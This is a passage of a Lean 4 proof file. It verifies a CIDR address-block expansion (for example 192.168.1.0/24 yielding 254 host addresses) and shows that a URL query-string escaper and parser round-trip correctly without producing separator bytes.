      · have hc : c = 0 := by omega
        subst hc
        have hinc : ipInc start = 0 := by
          unfold ipInc
          omega
        rw [hinc]
        have hstop' : cidrContains network mask 0 = false := by
          have hm : (start + 1) % 2 ^ 32 = 0 := by omega
          rwa [hm] at hstop
        have htail : cidrLoop network mask f 0 = [] := by
          cases f with
          | zero => rfl
          | succ f' =>
            unfold cidrLoop
            rw [hstop']
            simp
        rw [htail]
        rfl
      · have hlt' : start + 1 < 2 ^ 32 := by omega
        have hinc : ipInc start = start + 1 := by
          unfold ipInc
          exact Nat.mod_eq_of_lt hlt'
        rw [hinc]
        rw [ih (start + 1) f (by omega) hlt' (by omega)
          (fun i hi => by
            have h := hcont (i + 1) (by omega)
            have heq : start + (i + 1) = start + 1 + i := by omega
            rwa [heq] at h)
          (by
            have heq : start + (c + 1) = start + 1 + c := by omega
            rwa [heq] at hstop)]

/-- For prefix lengths 1–32, the CIDR walk started at the masked base visits
exactly the `2^(32-n)` addresses of the block, in ascending order. -/
theorem cidrLoop_block (ip n : Nat) (h1 : 1 ≤ n) (h2 : n ≤ 32) (h3 : ip < 2 ^ 32) :
    cidrLoop (ip.land (maskOf n)) (maskOf n) (2 ^ 32) (ip.land (maskOf n)) =
      addrRange (ip.land (maskOf n)) (2 ^ (32 - n)) := by
  set h := 32 - n with hdef
  have hh : h ≤ 31 := by omega
  have hnet : ip.land (maskOf n) = ip / 2 ^ h * 2 ^ h := by
    unfold maskOf
    rw [← hdef]
    exact land_highmask ip h h3 (by omega)
  set q := ip / 2 ^ h with hq
  have hpow : (0:Nat) < 2 ^ h := Nat.pos_pow_of_pos h (by norm_num)
  have hqlt : q < 2 ^ (32 - h) := by
    rw [hq]
    apply Nat.div_lt_of_lt_mul
    rw [← Nat.pow_add]
    have hexp : h + (32 - h) = 32 := by omega
    rw [hexp]
    exact h3
  have hsize : q * 2 ^ h + 2 ^ h ≤ 2 ^ 32 := by
    have hmul : (q + 1) * 2 ^ h ≤ 2 ^ (32 - h) * 2 ^ h := Nat.mul_le_mul_right _ (by omega)
    rw [← Nat.pow_add] at hmul
    have h32 : 32 - h + h = 32 := by omega
    rw [h32, Nat.add_mul, Nat.one_mul] at hmul
    omega
  have hland : ∀ v, v < 2 ^ 32 → v.land (maskOf n) = v / 2 ^ h * 2 ^ h := by
    intro v hv
    unfold maskOf
    rw [← hdef]
    exact land_highmask v h hv (by omega)
  rw [hnet]
  apply cidrLoop_spec
  · -- fuel
    exact Nat.pow_le_pow_right (by norm_num) (by omega)
  · -- start < 2^32
    omega
  · -- start + count ≤ 2^32
    omega
  · -- membership of the block
    intro i hi
    unfold cidrContains
    have hv : q * 2 ^ h + i < 2 ^ 32 := by omega
    rw [hland _ hv]
    have hdivi : (q * 2 ^ h + i) / 2 ^ h = q := by
      rw [Nat.mul_comm q (2 ^ h), Nat.mul_add_div hpow, Nat.div_eq_of_lt hi]
      omega
    rw [hdivi]
    exact beq_self_eq_true _
  · -- the next address is outside the block
    by_cases htop : q + 1 = 2 ^ (32 - h)
    · have hm : (q * 2 ^ h + 2 ^ h) % 2 ^ 32 = 0 := by
        have : q * 2 ^ h + 2 ^ h = (q + 1) * 2 ^ h := by ring
        rw [this, htop, ← Nat.pow_add]
        have h32 : 32 - h + h = 32 := by omega
        rw [h32, Nat.mod_self]
      rw [hm]
      unfold cidrContains
      have hz : Nat.land 0 (maskOf n) = 0 := by
        have hz' : (0 : Nat) &&& maskOf n = 0 := Nat.zero_and _
        exact hz'
      rw [hz]
      have hqpos : 1 ≤ q := by
        have : (2:Nat) ≤ 2 ^ (32 - h) := by
          have : 1 ≤ 32 - h := by omega
          calc (2:Nat) = 2 ^ 1 := by norm_num
          _ ≤ 2 ^ (32 - h) := Nat.pow_le_pow_right (by norm_num) this
        omega
      have : q * 2 ^ h ≠ 0 := by
        have : 1 * 1 ≤ q * 2 ^ h := Nat.mul_le_mul hqpos hpow
        omega
      simp [Ne.symm this]
    · have hv : q * 2 ^ h + 2 ^ h < 2 ^ 32 := by
        have hmul : (q + 1) * 2 ^ h < 2 ^ (32 - h) * 2 ^ h :=
          (Nat.mul_lt_mul_right hpow).mpr (by omega)
        rw [← Nat.pow_add] at hmul
        have h32 : 32 - h + h = 32 := by omega
        rw [h32, Nat.add_mul, Nat.one_mul] at hmul
        omega
      have hm : (q * 2 ^ h + 2 ^ h) % 2 ^ 32 = q * 2 ^ h + 2 ^ h := Nat.mod_eq_of_lt hv
      rw [hm]
      unfold cidrContains
      rw [hland _ hv]
      have hdivi : (q * 2 ^ h + 2 ^ h) / 2 ^ h = q + 1 := by
        rw [Nat.mul_comm q (2 ^ h), Nat.mul_add_div hpow, Nat.div_self hpow]
      rw [hdivi]
      have hne : (q + 1) * 2 ^ h ≠ q * 2 ^ h := by
        intro he
        have := Nat.eq_of_mul_eq_mul_right hpow he
        omega
      simp [hne]

/-- `parseCIDRNat` in closed form: the ascending block, with the first and
last address dropped exactly when the block has more than two addresses. -/
theorem parseCIDRNat_eq (ip n : Nat) (h1 : 1 ≤ n) (h2 : n ≤ 32) (h3 : ip < 2 ^ 32) :
    parseCIDRNat ip n =
      if 2 < 2 ^ (32 - n) then
        ((addrRange (ip.land (maskOf n)) (2 ^ (32 - n))).drop 1).dropLast
      else addrRange (ip.land (maskOf n)) (2 ^ (32 - n)) := by
  simp only [parseCIDRNat]
  rw [cidrLoop_block ip n h1 h2 h3]
  have hlen : (addrRange (ip.land (maskOf n)) (2 ^ (32 - n))).length = 2 ^ (32 - n) := by
    rw [addrRange_eq]
    simp
  rw [hlen]

/-- Dropping the first and last element of an `addrRange` with at least two
entries shifts the start and shortens by two. -/
theorem addrRange_drop_dropLast (start m : Nat) (hm : 2 ≤ m) :
    ((addrRange start m).drop 1).dropLast = addrRange (start + 1) (m - 2) := by
  obtain ⟨m', rfl⟩ : ∃ m', m = m' + 1 := ⟨m - 1, by omega⟩
  show ((start :: addrRange (start + 1) m').drop 1).dropLast = _
  rw [List.drop_one, List.tail_cons]
  have : ∀ (s k : Nat), (addrRange s (k + 1)).dropLast = addrRange s k := by
    intro s k
    induction k generalizing s with
    | zero => rfl
    | succ k' ih =>
      show (s :: addrRange (s + 1) (k' + 1)).dropLast = s :: addrRange (s + 1) k'
      rw [List.dropLast_cons_of_ne_nil (by show addrRange _ _ ≠ []; cases k' <;> simp [addrRange])]
      rw [ih (s + 1)]
  obtain ⟨m'', rfl⟩ : ∃ m'', m' = m'' + 1 := ⟨m' - 1, by omega⟩
  have hm2 : m'' + 1 + 1 - 2 = m'' := by omega
  rw [hm2]
  exact this (start + 1) m''

/-- Membership in an `addrRange` is an interval membership. -/
theorem mem_addrRange (x start m : Nat) :
    x ∈ addrRange start m ↔ start ≤ x ∧ x < start + m := by
  rw [addrRange_eq]
  simp only [List.mem_map, List.mem_range]
  constructor
  · rintro ⟨i, hi, rfl⟩
    omega
  · rintro ⟨hle, hlt⟩
    exact ⟨x - start, by omega, by omega⟩

/-- C7: resolving `192.168.1.0/24` yields exactly the 254 addresses
`192.168.1.1`–`192.168.1.254` in ascending numeric order, excluding
`192.168.1.0` and `192.168.1.255`; and in general (any prefix length 1–32)
the expansion is the ascending block with its first and last address dropped
exactly when the block contains more than two addresses. -/
theorem claim_C7_thm (ip n : Nat) (h1 : 1 ≤ n) (h2 : n ≤ 32) (h3 : ip < 2 ^ 32) :
    (parseCIDR "192.168.1.0/24" =
        .ok ((List.range 254).map (fun i => ipString (3232235777 + i))) ∧
      (parseCIDR "192.168.1.0/24").map List.length = .ok 254 ∧
      (parseCIDR "192.168.1.0/24").map (fun l => l.contains "192.168.1.0") = .ok false ∧
      (parseCIDR "192.168.1.0/24").map (fun l => l.contains "192.168.1.255") = .ok false) ∧
    (2 < 2 ^ (32 - n) →
      parseCIDRNat ip n = addrRange (ip.land (maskOf n) + 1) (2 ^ (32 - n) - 2) ∧
      ip.land (maskOf n) ∉ parseCIDRNat ip n ∧
      ip.land (maskOf n) + (2 ^ (32 - n) - 1) ∉ parseCIDRNat ip n) ∧
    (2 ^ (32 - n) ≤ 2 →
      parseCIDRNat ip n = addrRange (ip.land (maskOf n)) (2 ^ (32 - n))) := by
  refine ⟨⟨by decide, by decide, by decide, by decide⟩, ?_, ?_⟩
  · intro hbig
    have heq : parseCIDRNat ip n = addrRange (ip.land (maskOf n) + 1) (2 ^ (32 - n) - 2) := by
      rw [parseCIDRNat_eq ip n h1 h2 h3, if_pos hbig,
        addrRange_drop_dropLast _ _ (by omega)]
    refine ⟨heq, ?_, ?_⟩
    · rw [heq, mem_addrRange]
      omega
    · rw [heq, mem_addrRange]
      omega
  · intro hsmall
    rw [parseCIDRNat_eq ip n h1 h2 h3, if_neg (by omega)]

/-- C7 witness: the general statement applied at `192.168.1.0/24` itself
(packed base address 3232235776), whose block of 256 addresses drops its
network and broadcast addresses. -/
theorem claim_C7_witness :
    ((1 ≤ 24 ∧ 24 ≤ 32 ∧ 3232235776 < 2 ^ 32) ∧ 2 < 2 ^ (32 - 24)) ∧
    ((3232235776 : Nat).land (maskOf 24) ∉ parseCIDRNat 3232235776 24 ∧
      (3232235776 : Nat).land (maskOf 24) + (2 ^ (32 - 24) - 1) ∉ parseCIDRNat 3232235776 24) :=
  ⟨⟨⟨by decide, by decide, by decide⟩, by decide⟩,
    ((claim_C7_thm 3232235776 24 (by decide) (by decide) (by decide)).2.1 (by decide)).2⟩

/-! ## Claim C10: the GET request builder touches only the query -/

/-- Bytes produced by the escaper are never the separator bytes `&` (38),
`;` (59) or `=` (61). -/
theorem escByte_no_sep (b c : Nat) (hc : c ∈ escByte b) :
    c ≠ 38 ∧ c ≠ 59 ∧ c ≠ 61 := by
  unfold escByte at hc
  by_cases h1 : unreservedByte b = true
  · rw [if_pos h1] at hc
    simp only [List.mem_singleton] at hc
    subst hc
    unfold unreservedByte at h1
    simp only [Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq, beq_iff_eq] at h1
    omega
  · rw [if_neg h1] at hc
    by_cases h2 : b == 32
    · rw [if_pos h2] at hc
      simp only [List.mem_singleton] at hc
      omega
    · rw [if_neg h2] at hc
      simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hc
      rcases hc with hc | hc | hc
      · omega
      · subst hc
        unfold hexUpper
        split <;> omega
      · subst hc
        unfold hexUpper
        split <;> omega

/-- Separator bytes never occur in an escaped string. -/
theorem escList_no_sep (s : GoStr) (c : Nat) (hc : c ∈ escList s) :
    c ≠ 38 ∧ c ≠ 59 ∧ c ≠ 61 := by
  induction s with
  | nil => simp [escList] at hc
  | cons b r ih =>
    unfold escList at hc
    rcases List.mem_append.mp hc with h | h
    · exact escByte_no_sep b c h
    · exact ih h

/-- Decoding a hex digit produced by the encoder recovers the value. -/
theorem unhex_hexUpper (n : Nat) (h : n < 16) : unhex (hexUpper n) = some n := by
  unfold unhex hexUpper
  by_cases h10 : n < 10
  · rw [if_pos h10, if_pos (by omega)]
    congr 1
    omega
  · rw [if_neg h10, if_neg (by omega), if_pos (by omega)]
    congr 1
    omega

/-- Unfolding `queryUnescape` at a `+`. -/
theorem queryUnescape_cons43 (r : List Nat) :
    queryUnescape (43 :: r) = (queryUnescape r).map (fun r2 => 32 :: r2) := by
  conv_lhs => rw [queryUnescape.eq_def]
  norm_num

/-- Unfolding `queryUnescape` at a `%` with two following bytes. -/
theorem queryUnescape_cons37 (x y : Nat) (r : List Nat) :
    queryUnescape (37 :: x :: y :: r) =
      (match unhex x, unhex y with
        | some a, some c => (queryUnescape r).map (fun r2 => (16 * a + c) :: r2)
        | _, _ => none) := by
  conv_lhs => rw [queryUnescape.eq_def]
  norm_num

/-- Unfolding `queryUnescape` at a plain byte. -/
theorem queryUnescape_cons_other (b : Nat) (r : List Nat) (h37 : b ≠ 37) (h43 : b ≠ 43) :
    queryUnescape (b :: r) = (queryUnescape r).map (fun r2 => b :: r2) := by
  conv_lhs => rw [queryUnescape.eq_def]
  simp [h37, h43]

/-- Escaping followed by query-unescaping is the identity on byte strings. -/
theorem queryUnescape_escList (s : GoStr) (hs : ∀ b ∈ s, b < 256) :
    queryUnescape (escList s) = some s := by
  induction s with
  | nil => rfl
  | cons b r ih =>
    have hb : b < 256 := hs b (List.mem_cons_self b r)
    have ihr := ih (fun x hx => hs x (List.mem_cons_of_mem b hx))
    show queryUnescape (escByte b ++ escList r) = some (b :: r)
    unfold escByte
    by_cases h1 : unreservedByte b = true
    · rw [if_pos h1]
      have hb' : b ≠ 37 ∧ b ≠ 43 := by
        unfold unreservedByte at h1
        simp only [Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq, beq_iff_eq] at h1
        omega
      show queryUnescape (b :: escList r) = some (b :: r)
      rw [queryUnescape_cons_other b _ hb'.1 hb'.2, ihr]
      rfl
    · rw [if_neg h1]
      by_cases h2 : b == 32
      · rw [if_pos h2]
        have hb32 : b = 32 := by simpa using h2
        show queryUnescape (43 :: escList r) = some (b :: r)
        rw [queryUnescape_cons43, ihr, hb32]
        rfl
      · rw [if_neg h2]
        show queryUnescape (37 :: hexUpper (b / 16) :: hexUpper (b % 16) :: escList r) =
          some (b :: r)
        rw [queryUnescape_cons37, unhex_hexUpper (b / 16) (by omega),
          unhex_hexUpper (b % 16) (by omega)]
        show (queryUnescape (escList r)).map (fun r2 => (16 * (b / 16) + b % 16) :: r2) =
          some (b :: r)
        rw [ihr]
        have hb16 : 16 * (b / 16) + b % 16 = b := by omega
        simp [hb16]

/-- `Cut` on a string without the separator finds nothing. -/
theorem goCut_not_mem (sep : Nat) (l : GoStr) (h : sep ∉ l) :
    goCut sep l = (l, [], false) := by
  induction l with
  | nil => rfl
  | cons b r ih =>
    unfold goCut
    have hb : ¬ b = sep := by
      intro he
      exact h (he ▸ List.mem_cons_self b r)
    rw [if_neg hb, ih (fun hm => h (List.mem_cons_of_mem b hm))]

/-- `Cut` splits at the first separator occurrence. -/
theorem goCut_append (sep : Nat) (l t : GoStr) (h : sep ∉ l) :
    goCut sep (l ++ sep :: t) = (l, t, true) := by
  induction l with
  | nil => simp [goCut]
  | cons b r ih =>
    have hb : ¬ b = sep := by
      intro he
      exact h (he ▸ List.mem_cons_self b r)
    show goCut sep (b :: (r ++ sep :: t)) = (b :: r, t, true)
    unfold goCut
    rw [if_neg hb, ih (fun hm => h (List.mem_cons_of_mem b hm))]

/-- The query-parse loop on the empty query yields nothing, with any fuel. -/
theorem parseQueryLoop_nil (fuel : Nat) : parseQueryLoop fuel [] = [] := by
  cases fuel with
  | zero => rfl
  | succ f => rfl

/-- A `key=value` component is never empty. -/
theorem mkComp_ne_nil (pr : GoStr × GoStr) : mkComp pr ≠ [] := by
  unfold mkComp
  cases h : escList pr.1 with
  | nil => simp
  | cons x xs => simp

/-- Separator bytes `&` and `;` never occur in a component; `=` occurs only
as the key/value separator. -/
theorem mkComp_no_amp (pr : GoStr × GoStr) :
    38 ∉ mkComp pr ∧ 59 ∉ mkComp pr := by
  constructor <;>
  · intro hm
    unfold mkComp at hm
    rcases List.mem_append.mp hm with h | h
    · have := escList_no_sep pr.1 _ h
      omega
    · rcases List.mem_cons.mp h with h | h
      · omega
      · have := escList_no_sep pr.2 _ h
        omega

/-- Cutting a component at `=` recovers the escaped key and value. -/
theorem goCut_mkComp (pr : GoStr × GoStr) :
    goCut 61 (mkComp pr) = (escList pr.1, escList pr.2, true) := by
  unfold mkComp
  apply goCut_append
  intro hm
  have := escList_no_sep pr.1 _ hm
  omega

/-- Joined nonempty components bound the component count by the byte count. -/
theorem joinAmp_length (comps : List GoStr) (h : ∀ c ∈ comps, c ≠ []) :
    comps.length ≤ (joinAmp comps).length + 1 := by
  induction comps with
  | nil => simp [joinAmp]
  | cons c cs ih =>
    cases cs with
    | nil => (
      have hc : c ≠ [] := h c (List.mem_cons_self _ _)
      have : 1 ≤ c.length := by
        cases c with
        | nil => exact absurd rfl hc
        | cons x xs => simp
      show 1 ≤ (joinAmp [c]).length + 1
      omega)
    | cons c2 cs2 =>
      have hc : c ≠ [] := h c (List.mem_cons_self _ _)
      have hlen : 1 ≤ c.length := by
        cases c with
        | nil => exact absurd rfl hc
        | cons x xs => simp
      have ih2 := ih (fun x hx => h x (List.mem_cons_of_mem c hx))
      show (c :: c2 :: cs2).length ≤ (c ++ 38 :: joinAmp (c2 :: cs2)).length + 1
      simp only [List.length_cons, List.length_append] at ih2 ⊢
      omega

/-- Parsing the encoding of a pair list recovers exactly those pairs. -/
theorem parseQueryLoop_comps (prs : List (GoStr × GoStr)) :
    ∀ fuel, (∀ pr ∈ prs, (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256)) →
    prs.length ≤ fuel →
    parseQueryLoop fuel (joinAmp (prs.map mkComp)) = prs := by
  induction prs with
  | nil => intro fuel _ _; exact parseQueryLoop_nil fuel
  | cons pr rest ih =>
    intro fuel hbytes hfuel
    cases fuel with
    | zero => simp at hfuel
    | succ f =>
      have hhd := hbytes pr (List.mem_cons_self _ _)
      have hbytes' := fun x hx => hbytes x (List.mem_cons_of_mem pr hx)
      have hne := mkComp_ne_nil pr
      have hamp := mkComp_no_amp pr
      have hkey : queryUnescape (escList pr.1) = some pr.1 := queryUnescape_escList _ hhd.1
      have hval : queryUnescape (escList pr.2) = some pr.2 := queryUnescape_escList _ hhd.2
      cases hrest : rest with
      | nil =>
        subst hrest
        show parseQueryLoop (f + 1) (joinAmp [mkComp pr]) = [pr]
        show parseQueryLoop (f + 1) (mkComp pr) = [pr]
        unfold parseQueryLoop
        rw [if_neg (by simp [List.isEmpty_iff, hne])]
        rw [goCut_not_mem 38 (mkComp pr) hamp.1]
        simp only
        rw [if_neg (by
          simp only [List.contains, List.elem_eq_mem, decide_eq_true_eq]
          exact hamp.2)]
        rw [if_neg (by simp [List.isEmpty_iff, hne])]
        rw [goCut_mkComp]
        simp only
        rw [hkey, hval, parseQueryLoop_nil]
      | cons pr2 rest2 =>
        subst hrest
        show parseQueryLoop (f + 1) (joinAmp (mkComp pr :: mkComp pr2 :: rest2.map mkComp)) =
          pr :: pr2 :: rest2
        show parseQueryLoop (f + 1)
            (mkComp pr ++ 38 :: joinAmp (mkComp pr2 :: rest2.map mkComp)) =
          pr :: pr2 :: rest2
        unfold parseQueryLoop
        rw [if_neg (by
          simp only [List.isEmpty_iff]
          intro he
          exact hne (List.append_eq_nil.mp he).1)]
        rw [goCut_append 38 (mkComp pr) _ hamp.1]
        simp only
        rw [if_neg (by
          simp only [List.contains, List.elem_eq_mem, decide_eq_true_eq]
          exact hamp.2)]
        rw [if_neg (by simp [List.isEmpty_iff, hne])]
        rw [goCut_mkComp]
        simp only
        rw [hkey, hval]
        have hres : parseQueryLoop f (joinAmp (List.map mkComp (pr2 :: rest2))) =
            pr2 :: rest2 :=
          ih f hbytes' (by simp only [List.length_cons] at hfuel ⊢; omega)
        show (pr.1, pr.2) :: parseQueryLoop f (joinAmp (List.map mkComp (pr2 :: rest2))) =
          pr :: pr2 :: rest2
        rw [hres]

/-- Inserting into the key sort is a permutation. -/
theorem insertKey_perm (x : GoStr) (l : List GoStr) : (insertKey x l).Perm (x :: l) := by
  induction l with
  | nil => exact List.Perm.refl _
  | cons y ys ih =>
    unfold insertKey
    by_cases h : gsLe x y
    · rw [if_pos h]
    · rw [if_neg h]
      exact (List.Perm.cons y ih).trans (List.Perm.swap x y ys)

/-- The key sort is a permutation. -/
theorem sortKeys_perm (l : List GoStr) : (sortKeys l).Perm l := by
  induction l with
  | nil => exact List.Perm.refl _
  | cons x xs ih =>
    unfold sortKeys
    exact (insertKey_perm x (sortKeys xs)).trans (List.Perm.cons x ih)

/-- Membership in the encoded key list is membership among the original
keys. -/
theorem mem_encodeKeys (ps : List (GoStr × GoStr)) (k : GoStr) :
    k ∈ encodeKeys ps ↔ k ∈ ps.map Prod.fst := by
  unfold encodeKeys
  rw [(sortKeys_perm _).mem_iff, List.mem_dedup]

/-- The encoded key list has no duplicates. -/
theorem encodeKeys_nodup (ps : List (GoStr × GoStr)) : (encodeKeys ps).Nodup := by
  unfold encodeKeys
  exact (sortKeys_perm _).nodup_iff.mpr (List.nodup_dedup _)

/-- `Values[k]` distributes over appending pair lists. -/
theorem vOf_append (l1 l2 : List (GoStr × GoStr)) (k : GoStr) :
    vOf (l1 ++ l2) k = vOf l1 k ++ vOf l2 k := by
  unfold vOf
  rw [List.filter_append, List.map_append]

/-- `Values[k]` of a single-key group: all of it when the key matches,
nothing otherwise. -/
theorem vOf_group (k0 : GoStr) (vs : List GoStr) (k : GoStr) :
    vOf (vs.map (fun v => (k0, v))) k = if k0 = k then vs else [] := by
  unfold vOf
  rw [List.filter_map]
  by_cases h : k0 = k
  · rw [if_pos h]
    have hp : ((fun pr : GoStr × GoStr => pr.1 == k) ∘ (fun v : GoStr => (k0, v))) =
        fun _ => true := by
      funext v
      simp [Function.comp, h]
    rw [hp, List.filter_true, List.map_map]
    simp
  · rw [if_neg h]
    have hp : ((fun pr : GoStr × GoStr => pr.1 == k) ∘ (fun v : GoStr => (k0, v))) =
        fun _ => false := by
      funext v
      simp [Function.comp, h]
    rw [hp, List.filter_false]
    rfl

/-- A key absent from the pair list has no values. -/
theorem vOf_eq_nil_of_not_mem (ps : List (GoStr × GoStr)) (k : GoStr)
    (h : k ∉ ps.map Prod.fst) : vOf ps k = [] := by
  unfold vOf
  rw [List.filter_eq_nil_iff.mpr, List.map_nil]
  intro pr hpr
  simp only [beq_iff_eq]
  intro he
  exact h (he ▸ List.mem_map_of_mem Prod.fst hpr)

/-- A key outside the walked key list collects no values from the canonical
walk. -/
theorem vOf_flatMap_not_mem (ps : List (GoStr × GoStr)) (keys : List GoStr) (k : GoStr)
    (h : k ∉ keys) :
    vOf (keys.flatMap (fun k' => (vOf ps k').map (fun v => (k', v)))) k = [] := by
  induction keys with
  | nil => rfl
  | cons k0 rest ih =>
    rw [List.flatMap_cons, vOf_append, vOf_group,
      if_neg (fun he => h (List.mem_cons.mpr (Or.inl he.symm))),
      ih (fun hm => h (List.mem_cons_of_mem k0 hm))]
    rfl

/-- The canonical (sorted, grouped) walk preserves every key's value list. -/
theorem vOf_canonPairs (ps : List (GoStr × GoStr)) (k : GoStr) :
    vOf (canonPairs ps) k = vOf ps k := by
  unfold canonPairs
  by_cases hk : k ∈ encodeKeys ps
  · have hnd := encodeKeys_nodup ps
    revert hk hnd
    generalize encodeKeys ps = keys
    intro hk hnd
    induction keys with
    | nil => simp at hk
    | cons k0 rest ih =>
      rw [List.flatMap_cons, vOf_append, vOf_group]
      rcases List.mem_cons.mp hk with he | hm
      · subst he
        rw [if_pos rfl, vOf_flatMap_not_mem ps rest k (List.nodup_cons.mp hnd).1,
          List.append_nil]
      · rw [if_neg (by
          intro he2
          exact (List.nodup_cons.mp hnd).1 (he2 ▸ hm)),
          ih hm (List.nodup_cons.mp hnd).2]
        rfl
  · rw [vOf_flatMap_not_mem ps _ k hk,
      vOf_eq_nil_of_not_mem ps k (fun hm => hk ((mem_encodeKeys ps k).mpr hm))]

/-- Bytes of the pre-separator part of a cut come from the input. -/
theorem goCut_mem_left (sep : Nat) (l : GoStr) : ∀ b ∈ (goCut sep l).1, b ∈ l := by
  induction l with
  | nil => intro b hb; simp [goCut] at hb
  | cons x r ih =>
    intro b hb
    unfold goCut at hb
    by_cases hx : x = sep
    · rw [if_pos hx] at hb
      simp at hb
    · rw [if_neg hx] at hb
      rcases List.mem_cons.mp hb with h | h
      · exact h ▸ List.mem_cons_self x r
      · exact List.mem_cons_of_mem x (ih b h)

/-- Bytes of the post-separator part of a cut come from the input. -/
theorem goCut_mem_right (sep : Nat) (l : GoStr) : ∀ b ∈ (goCut sep l).2.1, b ∈ l := by
  induction l with
  | nil => intro b hb; simp [goCut] at hb
  | cons x r ih =>
    intro b hb
    unfold goCut at hb
    by_cases hx : x = sep
    · rw [if_pos hx] at hb
      exact List.mem_cons_of_mem x hb
    · rw [if_neg hx] at hb
      exact List.mem_cons_of_mem x (ih b hb)

/-- A decoded hex digit is below 16. -/
theorem unhex_lt (x a : Nat) (h : unhex x = some a) : a < 16 := by
  unfold unhex at h
  split at h
  · simp only [Option.some.injEq] at h
    omega
  · split at h
    · simp only [Option.some.injEq] at h
      omega
    · split at h
      · simp only [Option.some.injEq] at h
        omega
      · exact absurd h (by simp)

/-- Query-unescaping preserves the byte bound. -/
theorem queryUnescape_bytes (n : Nat) :
    ∀ (s t : GoStr), s.length ≤ n → queryUnescape s = some t →
    (∀ b ∈ s, b < 256) → ∀ b ∈ t, b < 256 := by
  induction n with
  | zero =>
    intro s t hlen h _
    cases s with
    | nil =>
      have ht : t = [] := by
        simpa [queryUnescape] using h.symm
      subst ht
      simp
    | cons x r => simp at hlen
  | succ n ih =>
    intro s t hlen h hbs
    cases s with
    | nil =>
      have ht : t = [] := by
        simpa [queryUnescape] using h.symm
      subst ht
      simp
    | cons b rest =>
      by_cases h37 : b = 37
      · subst h37
        cases rest with
        | nil => exact absurd h (by simp [queryUnescape])
        | cons h1 r1 =>
          cases r1 with
          | nil =>
            exact absurd h (by
              rw [queryUnescape.eq_def]
              simp)
          | cons h2 rest2 =>
            rw [queryUnescape_cons37] at h
            cases hu1 : unhex h1 with
            | none => rw [hu1] at h; simp at h
            | some a =>
              cases hu2 : unhex h2 with
              | none => rw [hu1, hu2] at h; simp at h
              | some c =>
                rw [hu1, hu2] at h
                simp only at h
                cases hq : queryUnescape rest2 with
                | none => rw [hq] at h; simp at h
                | some t2 =>
                  rw [hq] at h
                  simp only [Option.map_some', Option.some.injEq] at h
                  subst h
                  intro x hx
                  rcases List.mem_cons.mp hx with hx | hx
                  · have ha := unhex_lt h1 a hu1
                    have hc := unhex_lt h2 c hu2
                    omega
                  · exact ih rest2 t2 (by simp at hlen; omega) hq
                      (fun y hy => hbs y (by simp [hy])) x hx
      · by_cases h43 : b = 43
        · subst h43
          rw [queryUnescape_cons43] at h
          cases hq : queryUnescape rest with
          | none => rw [hq] at h; simp at h
          | some t2 =>
            rw [hq] at h
            simp only [Option.map_some', Option.some.injEq] at h
            subst h
            intro x hx
            rcases List.mem_cons.mp hx with hx | hx
            · omega
            · exact ih rest t2 (by simp at hlen; omega) hq
                (fun y hy => hbs y (by simp [hy])) x hx
        · rw [queryUnescape_cons_other b rest h37 h43] at h
          cases hq : queryUnescape rest with
          | none => rw [hq] at h; simp at h
          | some t2 =>
            rw [hq] at h
            simp only [Option.map_some', Option.some.injEq] at h
            subst h
            intro x hx
            rcases List.mem_cons.mp hx with hx | hx
            · exact hx ▸ hbs b (List.mem_cons_self b rest)
            · exact ih rest t2 (by simp at hlen; omega) hq
                (fun y hy => hbs y (by simp [hy])) x hx

/-- Every pair the query parser produces respects the byte bound of the raw
query. -/
theorem parseQueryLoop_bytes (fuel : Nat) :
    ∀ (q : GoStr), (∀ b ∈ q, b < 256) →
    ∀ pr ∈ parseQueryLoop fuel q, (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256) := by
  induction fuel with
  | zero => intro q _ pr hpr; simp [parseQueryLoop] at hpr
  | succ f ih =>
    intro q hq pr hpr
    unfold parseQueryLoop at hpr
    by_cases hqe : q.isEmpty
    · rw [if_pos hqe] at hpr
      simp at hpr
    · rw [if_neg hqe] at hpr
      simp only at hpr
      have hseg : ∀ b ∈ (goCut 38 q).1, b < 256 :=
        fun b hb => hq b (goCut_mem_left 38 q b hb)
      have hrest : ∀ b ∈ (goCut 38 q).2.1, b < 256 :=
        fun b hb => hq b (goCut_mem_right 38 q b hb)
      by_cases hsemi : (goCut 38 q).1.contains 59
      · rw [if_pos hsemi] at hpr
        exact ih _ hrest pr hpr
      · rw [if_neg hsemi] at hpr
        by_cases hsege : (goCut 38 q).1.isEmpty
        · rw [if_pos hsege] at hpr
          exact ih _ hrest pr hpr
        · rw [if_neg hsege] at hpr
          have hkb : ∀ b ∈ (goCut 61 (goCut 38 q).1).1, b < 256 :=
            fun b hb => hseg b (goCut_mem_left 61 _ b hb)
          have hvb : ∀ b ∈ (goCut 61 (goCut 38 q).1).2.1, b < 256 :=
            fun b hb => hseg b (goCut_mem_right 61 _ b hb)
          cases hk : queryUnescape (goCut 61 (goCut 38 q).1).1 with
          | none => rw [hk] at hpr; exact ih _ hrest pr (by
              cases hv2 : queryUnescape (goCut 61 (goCut 38 q).1).2.1 <;>
                rw [hv2] at hpr <;> exact hpr)
          | some k =>
            cases hv2 : queryUnescape (goCut 61 (goCut 38 q).1).2.1 with
            | none => rw [hk, hv2] at hpr; exact ih _ hrest pr hpr
            | some v =>
              rw [hk, hv2] at hpr
              simp only at hpr
              rcases List.mem_cons.mp hpr with he | hm
              · subst he
                constructor
                · exact queryUnescape_bytes _ _ k (Nat.le_refl _) hk hkb
                · exact queryUnescape_bytes _ _ v (Nat.le_refl _) hv2 hvb
              · exact ih _ hrest pr hm

/-- The canonical walk only contains keys and values drawn from the pair
list, so it inherits its byte bound. -/
theorem canonPairs_bytes (ps : List (GoStr × GoStr))
    (hb : ∀ pr ∈ ps, (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256)) :
    ∀ pr ∈ canonPairs ps, (∀ b ∈ pr.1, b < 256) ∧ (∀ b ∈ pr.2, b < 256) := by
  intro pr hpr
  unfold canonPairs at hpr
  obtain ⟨k, hk, hpr2⟩ := List.mem_flatMap.mp hpr
  obtain ⟨v, hv, rfl⟩ := List.mem_map.mp hpr2
  constructor
  · obtain ⟨pr0, hpr0, hfst⟩ := List.mem_map.mp ((mem_encodeKeys ps k).mp hk)
    exact fun b hbk => (hb pr0 hpr0).1 b (hfst ▸ hbk)
  · unfold vOf at hv
    obtain ⟨pr0, hpr0, hsnd⟩ := List.mem_map.mp hv
